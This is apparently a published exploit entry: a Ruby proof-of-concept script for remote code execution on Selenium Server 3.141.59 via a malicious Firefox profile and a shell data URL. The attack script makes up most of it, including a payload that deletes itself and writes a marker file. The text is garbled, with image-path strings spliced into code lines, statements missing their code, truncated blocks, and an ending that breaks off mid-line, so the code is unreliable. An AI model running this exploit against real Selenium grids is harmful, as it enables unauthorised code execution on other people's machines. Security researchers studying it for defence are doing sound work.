# Exploit Title: Selenium 3.141.59 - Remote Code Execution (Firefox/geckodriver)
# Date: 2021-05-27
# Exploit Author: Jon Stratton
# Vendor Homepage:
# Software Link:
# Version: 3.141.59
# Tested on: Selenium Server 3.141.59, webdriver, geckodriver
# When Selenium runs, it creates a custom profile (in /tmp/ for Linux) on the Node. This profile then gets overwritten by a possible overlay that is sent in a base64 encoded zip file when a Selenium session is started.
# One of the config file can be used to set a custom handler (which do things like, for instance, associates “” to your email client). In this example, a new handler is created for “application/sh” that will execute the argument with “/bin/sh”
# Side notes, this profile doesn't safely unzip. So this can be used to write files to the file-system.
# The Payload is encoded and embedded as inline data associated with the "application/sh" mime type.
#!/usr/bin/env ruby
require 'optparse'
require 'net/http'
require 'json'
require 'uri'
require 'zip'
require 'base64'
options = {} do |opts|
opts.banner = 'Usage: example.rb [options]'
opts.on('-hURL', '--hubURL', 'Selenium Hub URL') do |h|
options[:hub] = h
opts.on('--help', 'Prints this help') do
puts opts
hub_url = options[:hub]
payload = 'rm -rf $0
echo success > /tmp/selenium_node_rce.txt'
# Build profile zip file.
stringio = Zip::OutputStream::write_buffer do |io|
# Create a handler for shell scripts
encoded_profile = Base64.strict_encode64(stringio.sysread)
# Create session with our new profile
newSession = {:desiredCapabilities => {:browserName => "firefox", :firefox_profile => encoded_profile}}
uri =URI.parse(hub_url)
http =, uri.port)
# Start session with encoded_profile and save session id for cleanup.uri = URI.parse("%s/session" % [hub_url])
request =, 'Content-Type' => 'application/json')
request.body = JSON.generate(newSession)
response = http.request(request)
sessionId =JSON.parse(response.body)["value"]["sessionId"]
# URL.
data_url = "data:application/sh;charset=utf-16le;base64,%s" % [Base64.encode64(payload)]
uri = URI.parse("%s/session/%s/url" % [hub_url, sessionId])
request =, 'Content-Type' => 'application/json')
request.body = JSON.generate(:url => data_url)
response = http.request(request)
# End session(not working)
uri =URI.parse("%s/session/%s" % [hub_url,sessionId])
request =